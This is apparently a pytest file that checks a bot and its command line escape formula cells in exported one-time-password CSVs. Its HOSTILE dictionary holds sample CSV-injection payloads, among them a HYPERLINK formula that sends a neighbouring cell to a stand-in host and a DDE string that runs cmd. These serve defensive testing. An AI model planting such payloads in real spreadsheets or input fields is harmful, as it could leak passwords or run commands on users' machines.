"""Spreadsheet files the bot and its command line write neutralise formula cells.

A student named ``=HYPERLINK("http://x/?p="&F2,"Open")`` must not turn the registrar's list of
one-time passwords into a link that sends the next column away when it is opened in Excel.
Every cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is written
with a leading ``'`` (OWASP's CSV-injection rule, bot/services/cells.py).
"""

from __future__ import annotations

import asyncio
import csv
import io
from pathlib import Path

import pytest
from sqlalchemy import select

from bot.admin import main
from bot.demo.core import DEMO_ACCOUNTS
from bot.importer import passwords_csv
from bot.importer.base import IssuedPassword
from bot.services.cells import FORMULA_STARTS
from db.models import Group
from db.session import Database
from tests.conftest import App

HOSTILE = {
    "hyperlink": '=HYPERLINK("http://x/?p="&F2,"Open")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def rows_of(content: bytes) -> list[list[str]]:
    text = content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), row


def test_passwords_csv_neutralises_every_hostile_start() -> None:
    issued = [
        IssuedPassword(
            login=f"s{n}",
            last_name=name,
            first_name=name,
            middle_name=name,
            where=name,
            password="abcDEF234567",
        )
        for n, name in enumerate(HOSTILE.values())
    ]
    rows = rows_of(passwords_csv(issued))
    assert_no_formula(rows)
    assert [row[1] for row in rows[1:]] == ["'" + name for name in HOSTILE.values()]
    assert all(row[5] == "abcDEF234567" for row in rows[1:])


async def _group_code(db: Database) -> str:
    async with db.read() as session:
        return await session.scalar(select(Group.code).order_by(Group.id))


def _students_file(group: str) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(["login", "student_no", "last_name", "first_name", "middle_name", "group"])
    for n, name in enumerate(HOSTILE.values()):
        writer.writerow([f"hostile.{n}", f"S9999{n:04d}", name, "Name", name, group])
    return out.getvalue().encode()


def _check_passwords_file(content: bytes) -> None:
    rows = rows_of(content)
    assert len(rows) == 1 + len(HOSTILE)
    assert_no_formula(rows)
    # Whatever of the hostile names the import kept, it is in the file as text.
    hyperlink = next(row for row in rows if "HYPERLINK" in row[1])
    assert hyperlink[1] == "'" + HOSTILE["hyperlink"]


async def test_admin_one_time_passwords_csv_with_hostile_names(demo_app: App) -> None:
    admin = await demo_app.signed_in(*DEMO_ACCOUNTS["admin"])
    group = await _group_code(demo_app.db)
    await admin.send("/import")
    await admin.send_document("s.csv", _students_file(group), "text/csv", caption="students")
    await admin.click("✅ Apply")
    document = admin.last_message()
    assert document.document_name == "one-time-passwords.csv"
    _check_passwords_file(document.document_bytes)


@pytest.fixture
def env(monkeypatch: pytest.MonkeyPatch, database_url: str) -> str:
    monkeypatch.setenv("DATABASE_URL", database_url)
    monkeypatch.delenv("BOT_TOKEN", raising=False)
    return database_url


async def test_cli_passwords_out_with_hostile_names(
    env: str, demo_db: Database, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = tmp_path / "students.csv"
    source.write_bytes(_students_file(await _group_code(demo_db)))
    target = tmp_path / "pw.csv"
    argv = ["import", "students", str(source), "--passwords-out", str(target)]
    code = await asyncio.to_thread(main, argv)
    assert code == 0, capsys.readouterr().err
    _check_passwords_file(target.read_bytes())
